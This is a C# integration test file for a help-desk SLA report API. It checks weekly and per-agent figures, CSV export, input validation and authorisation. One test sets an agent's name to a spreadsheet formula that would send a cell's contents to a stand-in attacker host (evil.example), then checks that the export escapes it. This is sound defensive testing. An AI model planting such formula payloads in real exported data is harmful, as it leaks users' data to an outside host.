using System.Net;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Rapport.Data;
using Rapport.Features.Agents;
using Rapport.Features.ApiTokens;
using Rapport.Features.Customers;
using Rapport.Features.Reports;
using Rapport.Features.Sla;
using Rapport.Features.Tickets;
using Rapport.Tests.Infrastructure;

namespace Rapport.Tests.Features.Reports;

/// <summary>The SLA report through the API, over a desk run under the fake clock with the default policies (normal
/// priority: first and next answer within 8 business hours, resolution within 40) and office hours (Monday to Friday
/// 09:00–17:00, UTC here). Two agents: Ann owns the customers, Bob sometimes answers them.</summary>
public abstract class SlaReportTests(RapportFactory app) : DatabaseTests(app)
{
    private DateTime _monday;
    private Agent _ann = null!;
    private Agent _bob = null!;
    private HttpClient _asAnn = null!;
    private HttpClient _asBob = null!;

    /// <summary>Moves the shared fake clock to the next Monday 09:00 (tests of a class share the app, its clock and its
    /// database), so each test's weeks hold only its own tickets.</summary>
    public override async ValueTask InitializeAsync()
    {
        await base.InitializeAsync();
        _monday = App.AdvanceToNext(DayOfWeek.Monday, new(9, 0));
        _ann = await App.CreateAgentAsync(AgentRoles.Agent);
        _bob = await App.CreateAgentAsync(AgentRoles.Agent);
        _asAnn = await App.CreateTokenClientAsync(ApiTokenScope.Write, _ann, Ct);
        _asBob = await App.CreateTokenClientAsync(ApiTokenScope.Write, _bob, Ct);
    }

    private const string Kept = "promisesKept";

    private DateOnly Week1 => DateOnly.FromDateTime(_monday);

    private DateOnly Week2 => Week1.AddDays(7);

    /// <summary>Day 0 is the test's first Monday, 7 the Monday after.</summary>
    private DateTime At(int day, double hour) => _monday.Date.AddDays(day).AddHours(hour);

    private void ClockTo(int day, double hour)
    {
        var to = At(day, hour);
        to.ShouldBeGreaterThanOrEqualTo(App.Now, "the scenario runs forward in time");
        App.Time.Advance(to - App.Now);
    }

    /// <summary>A new customer (owned by <paramref name="owner"/>, or nobody) opens a normal-priority ticket now.</summary>
    private async Task<TicketDetails> OpenAsync(Agent? owner)
    {
        var email = $"report+{Guid.NewGuid():N}@example.org";
        (await _asAnn.PostJsonAsync("/api/v1/customers", new { name = "Customer", emails = new[] { email }, ownerId = owner?.Id }))
            .StatusCode.ShouldBe(HttpStatusCode.Created);
        var response = await _asAnn.PostJsonAsync("/api/v1/tickets", new { subject = "Order", priority = "normal", customer = new { email }, message = new { text = "Where is my order?" } });
        await response.ShouldHaveStatusAsync(HttpStatusCode.Created);
        var ticket = await response.ReadAsync<TicketDetails>();
        (ticket.Owner?.Id).ShouldBe(owner?.Id);
        return ticket;
    }

    private static async Task ReplyAsync(HttpClient agent, TicketDetails ticket) =>
        await (await agent.PostJsonAsync($"/api/v1/tickets/{ticket.Id}/replies", new { text = "On its way." })).ShouldHaveStatusAsync(HttpStatusCode.Created);

    private async Task CustomerWritesAsync(TicketDetails ticket)
    {
        var added = await App.Services.GetRequiredService<AddTicketMessage>()
            .AddFromCustomerAsync(ticket.Id, new MessageInput { Text = "Any news?" }, Actor.Customer(ticket.Customer.Id, ChangeChannel.Portal), Ct);
        added.Outcome.ShouldBe(AddTicketMessage.Outcome.Added);
    }

    private async Task<long> PromiseAsync(HttpClient agent, TicketDetails ticket, string kind, DateTime dueAt)
    {
        var response = await agent.PostJsonAsync($"/api/v1/tickets/{ticket.Id}/promises", new { kind, text = "I'll call you tomorrow", dueAt });
        await response.ShouldHaveStatusAsync(HttpStatusCode.Created);
        return (await response.ReadAsync<Rapport.Features.Promises.PromisesApi.PromiseView>()).Id;
    }

    private static async Task SettleAsync(HttpClient agent, long promise, string status) =>
        await (await agent.PostJsonAsync($"/api/v1/promises/{promise}/settle", new { status })).ShouldHaveStatusAsync(HttpStatusCode.OK);

    /// <summary>Two weeks of work (the figures each test asserts are worked out in the comments), then the clock stops on
    /// the Wednesday of the third week, when every deadline of the first two weeks has passed.
    /// First responses (business hours): T1 2 h (Ann), T2 4 h (Bob), T6 30 min (Bob, customer without owner),
    /// T3 9 h (Ann, late: due Monday 16:00), T4 0 h (Ann, opened Saturday, answered Sunday), T5 never (owed by Ann).
    /// Next responses: T1 2 h (Ann, in time), T4 4 h in week 2 (Ann, from the first of two customer messages), T2 owed
    /// since Wednesday (Ann's ticket, missed). Resolution: T1 11 h (resolved while waiting, in time); T5 and T2 open past due.
    /// Replies to Ann's customers: 6, of which Bob wrote 1. Written promises: Ann's call kept in week 1, Bob's follow-up
    /// broken in week 2, one of Ann's cancelled (not counted).</summary>
    private async Task RunTwoWeeksAsync()
    {
        var t1 = await OpenAsync(_ann);                           // Mon 09:00
        ClockTo(0, 11); await ReplyAsync(_asAnn, t1);
        var call = await PromiseAsync(_asAnn, t1, "call", At(1, 12));
        ClockTo(0, 16); await CustomerWritesAsync(t1);
        var t2 = await OpenAsync(_ann);
        ClockTo(1, 9); var t6 = await OpenAsync(null);
        ClockTo(1, 9.5); await ReplyAsync(_asBob, t6);
        ClockTo(1, 10); await ReplyAsync(_asAnn, t1);
        ClockTo(1, 12); await ReplyAsync(_asBob, t2);
        await SettleAsync(_asAnn, call, "kept");
        var followUp = await PromiseAsync(_asBob, t2, "follow-up", At(2, 12));
        (await _asAnn.PatchJsonAsync($"/api/v1/tickets/{t1.Id}", new { status = "resolved" })).StatusCode.ShouldBe(HttpStatusCode.OK);
        ClockTo(2, 9); var t5 = await OpenAsync(_ann);
        ClockTo(2, 10); await CustomerWritesAsync(t2);
        ClockTo(2, 11); await CustomerWritesAsync(t2);
        ClockTo(4, 16); var t3 = await OpenAsync(_ann);
        var cancelled = await PromiseAsync(_asAnn, t3, "follow-up", At(7, 12));
        ClockTo(5, 10); var t4 = await OpenAsync(_ann);
        ClockTo(6, 20); await ReplyAsync(_asAnn, t4);
        ClockTo(7, 9); await CustomerWritesAsync(t4);
        await SettleAsync(_asBob, followUp, "broken");
        await SettleAsync(_asAnn, cancelled, "cancelled");
        ClockTo(7, 12); await CustomerWritesAsync(t4);
        ClockTo(7, 13); await ReplyAsync(_asAnn, t4);
        ClockTo(7, 17); await ReplyAsync(_asAnn, t3);
        ClockTo(16, 12);
        t5.Id.ShouldBeGreaterThan(0);
    }

    private async Task<SlaReport> GetReportAsync(string query)
    {
        var client = await App.CreateTokenClientAsync(ApiTokenScope.Read, ct: Ct);
        var response = await client.GetAsync("/api/v1/reports/sla?" + query);
        await response.ShouldHaveStatusAsync(HttpStatusCode.OK);
        return await response.ReadAsync<SlaReport>();
    }

    private string TwoWeeks => $"from={Week1:yyyy-MM-dd}&to={Week2.AddDays(6):yyyy-MM-dd}";

    [Fact]
    public async Task Sla_TwoWeeksOfWork_MediansPercentilesAttainmentAndContinuity()
    {
        await RunTwoWeeksAsync();

        var report = await GetReportAsync(TwoWeeks);

        report.From.ShouldBe(Week1);
        report.To.ShouldBe(Week2.AddDays(6));
        report.TimeZone.ShouldBe("UTC");
        report.Rates.Select(r => r.Key).ShouldBe([ReportBuilder.FirstResponseSla, ReportBuilder.NextResponseSla, ReportBuilder.ResolutionSla, ReportBuilder.OwnerContinuity, Kept]);
        var total = report.Total;
        // First responses 0, 0.5, 2, 4, 9 h: median 2 h; p90 at rank 3.6 = 4 + 0.6 × 5 = 7 h.
        total.FirstResponse.ShouldBe(new TimeFigure(5, TimeSpan.FromHours(2), TimeSpan.FromHours(7)));
        total.NextResponse.ShouldBe(new TimeFigure(2, TimeSpan.FromHours(3), TimeSpan.FromHours(3.8)));
        total.Resolution.ShouldBe(new TimeFigure(1, TimeSpan.FromHours(11), TimeSpan.FromHours(11)));
        total.Rates[ReportBuilder.FirstResponseSla].ShouldBe(new RateFigure(4, 6, 0.6667));
        total.Rates[ReportBuilder.NextResponseSla].ShouldBe(new RateFigure(2, 3, 0.6667));
        total.Rates[ReportBuilder.ResolutionSla].ShouldBe(new RateFigure(1, 3, 0.3333));
        total.Rates[ReportBuilder.OwnerContinuity].ShouldBe(new RateFigure(5, 6, 0.8333));
        total.Rates[Kept].ShouldBe(new RateFigure(1, 2, 0.5));

        report.Weeks.Select(w => w.Week).ShouldBe([Week1, Week2]);
        var (first, second) = (report.Weeks[0].Figures, report.Weeks[1].Figures);
        first.FirstResponse.Count.ShouldBe(5);
        second.FirstResponse.Count.ShouldBe(0);
        second.FirstResponse.Median.ShouldBeNull();
        first.NextResponse.ShouldBe(new TimeFigure(1, TimeSpan.FromHours(2), TimeSpan.FromHours(2)));
        second.NextResponse.ShouldBe(new TimeFigure(1, TimeSpan.FromHours(4), TimeSpan.FromHours(4)));
        first.Rates[ReportBuilder.NextResponseSla].ShouldBe(new RateFigure(1, 2, 0.5));
        first.Rates[ReportBuilder.OwnerContinuity].ShouldBe(new RateFigure(3, 4, 0.75));
        second.Rates[ReportBuilder.OwnerContinuity].ShouldBe(new RateFigure(2, 2, 1));
        first.Rates[Kept].ShouldBe(new RateFigure(1, 1, 1));
        second.Rates[Kept].ShouldBe(new RateFigure(0, 1, 0));

        var ann = report.Agents.Single(a => a.AgentId == _ann.Id);
        ann.Agent.ShouldBe(_ann.DisplayName);
        // Ann: 0, 2, 9 h; p90 at rank 1.8 = 2 + 0.8 × 7 = 7.6 h. In time: T1 and T4 of T1, T3, T4, T5.
        ann.Figures.FirstResponse.ShouldBe(new TimeFigure(3, TimeSpan.FromHours(2), TimeSpan.FromHours(7.6)));
        ann.Figures.Rates[ReportBuilder.FirstResponseSla].ShouldBe(new RateFigure(2, 4, 0.5));
        ann.Figures.Rates[ReportBuilder.ResolutionSla].ShouldBe(new RateFigure(1, 3, 0.3333));
        ann.Figures.Rates[ReportBuilder.OwnerContinuity].ShouldBe(new RateFigure(5, 6, 0.8333));
        var bob = report.Agents.Single(a => a.AgentId == _bob.Id);
        // Bob: 0.5 and 4 h; median 2.25 h, p90 0.5 + 0.9 × 3.5 = 3.65 h.
        bob.Figures.FirstResponse.ShouldBe(new TimeFigure(2, TimeSpan.FromHours(2.25), TimeSpan.FromHours(3.65)));
        bob.Figures.Rates[ReportBuilder.FirstResponseSla].ShouldBe(new RateFigure(2, 2, 1));
        bob.Figures.Rates[ReportBuilder.OwnerContinuity].ShouldBe(new RateFigure(0, 0, null));
        bob.Figures.Rates[Kept].ShouldBe(new RateFigure(0, 1, 0));
        ann.Figures.Rates[Kept].ShouldBe(new RateFigure(1, 1, 1));
        report.Agents.Count.ShouldBe(2);

        report.Cells.Select(c => (c.Week, c.AgentId)).ShouldBe([(Week1, _ann.Id), (Week1, _bob.Id), (Week2, _ann.Id), (Week2, _bob.Id)], ignoreOrder: true);
        report.Cells.Single(c => c.Week == Week2 && c.AgentId == _ann.Id).Figures.NextResponse.Count.ShouldBe(1);
    }

    [Fact]
    public async Task Sla_OneAgent_OnlyTheirFigures()
    {
        await RunTwoWeeksAsync();

        var report = await GetReportAsync($"{TwoWeeks}&agent={_bob.Id}");

        report.AgentId.ShouldBe(_bob.Id);
        report.Agents.ShouldHaveSingleItem().AgentId.ShouldBe(_bob.Id);
        report.Total.FirstResponse.Count.ShouldBe(2);
        report.Total.Rates[ReportBuilder.FirstResponseSla].ShouldBe(new RateFigure(2, 2, 1));
        report.Total.NextResponse.Count.ShouldBe(0);
        report.Total.Rates[ReportBuilder.OwnerContinuity].Total.ShouldBe(0);
        report.Total.Rates[Kept].ShouldBe(new RateFigure(0, 1, 0));
    }

    [Fact]
    public async Task SlaCsv_TwoWeeksOfWork_RowPerWeekAndAgentThenTotals()
    {
        await RunTwoWeeksAsync();
        var client = await App.CreateTokenClientAsync(ApiTokenScope.Read, ct: Ct);

        var response = await client.GetAsync($"/api/v1/reports/sla.csv?{TwoWeeks}");

        await response.ShouldHaveStatusAsync(HttpStatusCode.OK);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        response.Content.Headers.ContentDisposition!.FileName.ShouldBe($"sla-report-{Week1:yyyy-MM-dd}-to-{Week2.AddDays(6):yyyy-MM-dd}.csv");
        var lines = (await response.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        lines[0].ShouldBe("week,agent_id,agent,first_response_count,first_response_median_hours,first_response_p90_hours," +
            "next_response_count,next_response_median_hours,next_response_p90_hours,resolution_count,resolution_median_hours,resolution_p90_hours," +
            "first_response_sla_met,first_response_sla_total,first_response_sla_percent,next_response_sla_met,next_response_sla_total,next_response_sla_percent," +
            "resolution_sla_met,resolution_sla_total,resolution_sla_percent,owner_continuity_met,owner_continuity_total,owner_continuity_percent," +
            "promises_kept_met,promises_kept_total,promises_kept_percent");
        // 4 week × agent cells, 2 weeks, 2 agents, the total.
        lines.Length.ShouldBe(1 + 4 + 2 + 2 + 1);
        lines.ShouldContain($"{Week1:yyyy-MM-dd},{_bob.Id},{_bob.DisplayName},2,2.25,3.65,0,,,0,,,2,2,100.00,0,0,,0,0,,0,0,,0,0,");
        lines.ShouldContain($"{Week2:yyyy-MM-dd},,All agents,0,,,1,4.00,4.00,0,,,0,0,,1,1,100.00,0,0,,2,2,100.00,0,1,0.00");
        lines.ShouldContain($"all,{_ann.Id},{_ann.DisplayName},3,2.00,7.60,2,3.00,3.80,1,11.00,11.00,2,4,50.00,2,3,66.67,1,3,33.33,5,6,83.33,1,1,100.00");
        lines[^1].ShouldBe("all,,All agents,5,2.00,7.00,2,3.00,3.80,1,11.00,11.00,4,6,66.67,2,3,66.67,1,3,33.33,5,6,83.33,1,2,50.00");
    }

    /// <summary>Agents choose their own names: one that looks like a formula reaches the spreadsheet as text.</summary>
    [Fact]
    public async Task SlaCsv_AgentNamedLikeAFormula_IsWrittenAsText()
    {
        const string name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
        await using (var db = App.CreateDbContext())
        {
            await db.Users.Where(a => a.Id == _bob.Id).ExecuteUpdateAsync(set => set.SetProperty(a => a.DisplayName, name), Ct);
        }
        var ticket = await OpenAsync(null);
        ClockTo(0, 10);
        await ReplyAsync(_asBob, ticket);
        var client = await App.CreateTokenClientAsync(ApiTokenScope.Read, ct: Ct);

        var csv = await client.GetStringAsync($"/api/v1/reports/sla.csv?from={Week1:yyyy-MM-dd}&to={Week1.AddDays(6):yyyy-MM-dd}&agent={_bob.Id}", Ct);

        var guarded = $"{Week1:yyyy-MM-dd},{_bob.Id},\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",1,1.00,1.00,";
        csv.Split("\r\n").ShouldContain(line => line.StartsWith(guarded, StringComparison.Ordinal), csv);
    }

    [Fact]
    public async Task Sla_NoDates_LastEightWeeksInTheBusinessZone()
    {
        var report = await GetReportAsync("");

        var today = DateOnly.FromDateTime(App.Now);
        report.To.ShouldBe(today);
        report.From.ShouldBe(ReportRange.WeekOf(today).AddDays(-49));
        report.Weeks.Count.ShouldBe(8);
    }

    [Theory]
    [InlineData("from=2026-13-01", "from")]
    [InlineData("from=yesterday", "from")]
    [InlineData("to=2026-02-30", "to")]
    [InlineData("from=2026-03-10&to=2026-03-01", "to")]
    [InlineData("from=2025-01-01&to=2026-03-01", "to")]
    [InlineData("agent=abc", "agent")]
    [InlineData("agent=-3", "agent")]
    [InlineData("agent=999999", "agent")]
    public async Task Sla_BadInput_ValidationProblemNamingTheField(string query, string field)
    {
        var client = await App.CreateTokenClientAsync(ApiTokenScope.Read, ct: Ct);

        foreach (var path in new[] { "/api/v1/reports/sla", "/api/v1/reports/sla.csv" })
        {
            var response = await client.GetAsync($"{path}?{query}");

            await response.ShouldHaveStatusAsync(HttpStatusCode.BadRequest);
            response.Content.Headers.ContentType!.MediaType.ShouldBe("application/problem+json");
            var problem = await response.ReadAsync<HttpValidationProblemDetails>();
            problem.Errors.Keys.ShouldBe([field]);
        }
    }

    [Fact]
    public async Task Sla_WithoutToken_Unauthorized()
    {
        var response = await App.CreateClient().GetAsync("/api/v1/reports/sla");

        response.StatusCode.ShouldBe(HttpStatusCode.Unauthorized);
    }

    /// <summary>The extension point (promises kept uses it): a registered rate lands in every figure, the page and the CSV.</summary>
    [Fact]
    public async Task Build_ExtraRate_AddedAsAColumnPerWeekAndAgent()
    {
        var rate = new FixedRate([new(At(1, 10), _ann.Id, true), new(At(8, 10), _ann.Id, false), new(At(9, 10), null, true), new(At(30, 0), _ann.Id, true)]);
        var builder = new ReportBuilder(App.Services.GetRequiredService<IDbContextFactory<RapportDb>>(), App.Services.GetRequiredService<SlaClock>(), App.Time, [rate]);

        var report = (await builder.BuildAsync(Week1, Week2.AddDays(6), null, Ct)).Report!;

        report.Rates[^1].ShouldBe(new ReportColumn("somethingKept", "Something kept"));
        report.Total.Rates["somethingKept"].ShouldBe(new RateFigure(2, 3, 0.6667));
        report.Weeks[1].Figures.Rates["somethingKept"].ShouldBe(new RateFigure(1, 2, 0.5));
        report.Agents.Single(a => a.AgentId == _ann.Id).Figures.Rates["somethingKept"].ShouldBe(new RateFigure(1, 2, 0.5));
        report.Agents.Single(a => a.AgentId is null).Agent.ShouldBe(ReportBuilder.UnassignedName);
        rate.Window!.FromUtc.ShouldBe(At(0, 0));
        ReportCsv.Write(report).Split("\r\n")[0].ShouldEndWith(",something_kept_met,something_kept_total,something_kept_percent");
    }

    private sealed class FixedRate(IReadOnlyList<RateSample> samples) : IReportRate
    {
        public ReportWindow? Window { get; private set; }

        public string Key => "somethingKept";

        public string Title => "Something kept";

        public Task<IReadOnlyList<RateSample>> LoadAsync(RapportDb db, ReportWindow window, CancellationToken ct)
        {
            Window = window;
            return Task.FromResult(samples);
        }
    }
}

public sealed class SlaReportTests_Sqlite(SqliteRapportFactory app) : SlaReportTests(app), IClassFixture<SqliteRapportFactory>;

public sealed class SlaReportTests_Postgres(PostgresRapportFactory app) : SlaReportTests(app), IClassFixture<PostgresRapportFactory>;
